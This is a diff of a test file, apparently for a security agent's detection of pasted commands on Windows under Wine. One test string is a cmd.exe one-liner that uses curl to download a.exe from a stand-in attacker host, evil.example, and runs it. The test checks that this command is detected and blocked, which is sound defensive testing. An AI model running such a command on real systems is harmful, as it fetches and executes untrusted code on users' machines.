@@ -132,8 +132,8 @@ describe.skipIf(missingProgram !== null)('the agent on Windows, in wine,', { tim
       'ping -n 4 127.0.0.1 & curl -s -o C:\\pasted\\a.exe http://evil.example/a.exe & start C:\\pasted\\a.exe & echo ran > C:\\pasted\\ran.txt';
     await mkdir(onC('pasted'), { recursive: true });
     // The Run box starts what is typed from Explorer.
-    await buildSmall(join(onC('pasted'), 'explorer.exe'), [`Exec 'cmd.exe /c "${command}"'`]);
-    await wine.run('C:\\pasted\\explorer.exe');
+    await buildSmall(join(onC('pasted'), 'explorer.exe'), [`ExecWait 'cmd.exe /c "${command}"'`]);
+    wine.start('C:\\pasted\\explorer.exe');
     const detection = await until('the detection', async () => (await detections()).find(({ category }) => category === 'PastedCommand'));
     expect(detection).toMatchObject({ blocked: true, details: 'evil.example' });
     expect(await wine.running()).toContain('cmd.exe');
